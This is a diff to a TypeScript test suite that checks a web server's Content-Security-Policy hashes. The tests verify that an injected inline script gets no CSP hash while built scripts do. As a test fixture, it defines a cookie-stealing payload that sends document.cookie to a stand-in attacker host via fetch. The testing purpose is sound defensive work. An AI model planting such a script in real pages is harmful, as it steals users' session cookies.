@@ -3,7 +3,7 @@ import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { createApp } from '../app'
+import { buildScriptHashes, createApp } from '../app'
 import { inlineScriptHashes, pagePolicy } from './security-headers'
 
 // The real index.html: whatever inline script it carries (the theme/language one that runs
@@ -38,6 +38,8 @@ describe('inlineScriptHashes', () => {
   })
 })
 
+const injected = 'fetch("https://evil.example/?c=" + document.cookie)'
+
 describe('security headers on the served site', () => {
   let root: string
   let app: ReturnType<typeof createApp>
@@ -49,7 +51,8 @@ describe('security headers on the served site', () => {
     }
     const files = {
       'en/index.html': indexHtml,
-      'es/index.html': indexHtml,
+      // A page that carries a script nobody built (an injection, a template mistake).
+      'es/index.html': indexHtml.replace('</body>', `<script>${injected}</script></body>`),
       'en/404.html': indexHtml,
       'es/404.html': indexHtml,
     }
@@ -63,11 +66,21 @@ describe('security headers on the served site', () => {
       }),
     )
     write('client/favicon.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>')
-    app = createApp({ clientDir: join(root, 'client'), trustProxy: true })
+    app = createApp({ clientDir: join(root, 'client'), trustProxy: { mode: 'hops', hops: 1 } })
   })
   afterAll(() => rmSync(root, { recursive: true, force: true }))
 
-  it('a page gets a CSP with the hash of its inline script, computed from the served HTML', async () => {
+  it('a page never widens its own policy: an inline script that was not built gets no hash', async () => {
+    const response = await app.request('/', { headers: { 'accept-language': 'es' } })
+    expect(await response.text()).toContain(injected)
+    const csp = response.headers.get('content-security-policy') ?? ''
+    const injectedHash = `'sha256-${createHash('sha256').update(injected).digest('base64')}'`
+    expect(csp).not.toContain(injectedHash)
+    expect(csp).toContain(expectedHash)
+    expect(csp).toBe((await app.request('/')).headers.get('content-security-policy'))
+  })
+
+  it('a page gets a CSP with the hash of the known inline script, computed at build time', async () => {
     const response = await app.request('/')
     expect(response.status).toBe(200)
     const csp = response.headers.get('content-security-policy') ?? ''
@@ -101,5 +114,23 @@ describe('security headers on the served site', () => {
     expect(api.status).toBe(404)
     expect(api.headers.get('cache-control')).toBe('no-store')
     expect(await api.json()).toMatchObject({ success: false, code: 'not_found' })
+  })
+})
+
+describe('the build’s list of inline scripts', () => {
+  it('adds the hashes the prerender step recorded, and only well-formed ones', () => {
+    const root = mkdtempSync(join(tmpdir(), 'csp-build-'))
+    try {
+      mkdirSync(join(root, 'pages'))
+      const recorded = `'sha256-${createHash('sha256').update('scroll()').digest('base64')}'`
+      writeFileSync(
+        join(root, 'pages/csp-script-hashes.json'),
+        JSON.stringify([recorded, "'unsafe-inline'", 42]),
+      )
+      expect(buildScriptHashes(join(root, 'client'))).toEqual([expectedHash, recorded])
+      expect(buildScriptHashes(join(root, 'nowhere/client'))).toEqual([expectedHash])
+    } finally {
+      rmSync(root, { recursive: true, force: true })
+    }
   })
 })
